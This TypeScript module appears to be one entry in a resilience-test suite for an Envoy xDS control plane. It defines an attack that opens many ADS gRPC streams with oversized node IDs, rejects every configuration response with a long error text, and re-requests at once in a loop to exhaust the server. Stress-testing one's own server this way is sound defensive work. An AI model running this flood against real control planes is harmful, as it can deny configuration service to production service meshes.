import { setTimeout as delay } from 'node:timers/promises';
import { TypeUrl } from '../../../../src/envoy/type-urls.js';
import type { Attack } from '../attack.js';
import { connectTo, Endings, nonceOf, openAds, requestFrame } from '../discovery-call.js';
import { onGrpcMessage } from '../raw-http2.js';

const STREAMS = 100;
const DURATION_MS = 8_000;
const LONG = 'x'.repeat(1_500);
const TYPES = [TypeUrl.cluster, TypeUrl.listener, TypeUrl.endpoint] as const;

/** Each stream has its own node ID, rejects every response at once with a long text, and requests again. */
export const attack: Attack = {
  title: `${STREAMS} streams that reject every response and request again`,
  durationMs: DURATION_MS,
  async run(target, scale, signal) {
    const endings = new Endings();
    let rejections = 0;
    const sessions = (['plaintext', 'secured'] as const).map((listener) => connectTo(target, listener));
    for (let index = 0; index < STREAMS * scale; index++) {
      const session = sessions[index % sessions.length];
      if (session === undefined || session.destroyed) continue;
      const call = openAds(session, endings);
      const typeUrl = TYPES[index % TYPES.length] as string;
      const node = `sidecar~10.66.0.1~${LONG}${index}.attackers~attackers.svc.cluster.local`;
      onGrpcMessage(call, (response) => {
        rejections++;
        if (call.destroyed) return;
        call.write(requestFrame({ typeUrl, nonce: nonceOf(response), error: `${LONG}${rejections}` }));
        call.write(requestFrame({ typeUrl }));
      });
      call.write(requestFrame({ node, typeUrl, names: ['outbound|80||no-such-service'] }));
    }
    await delay(DURATION_MS, undefined, { signal }).catch(() => undefined);
    for (const session of sessions) session.destroy();
    return `${STREAMS * scale} streams sent ${rejections} rejections; ${endings}`;
  },
};
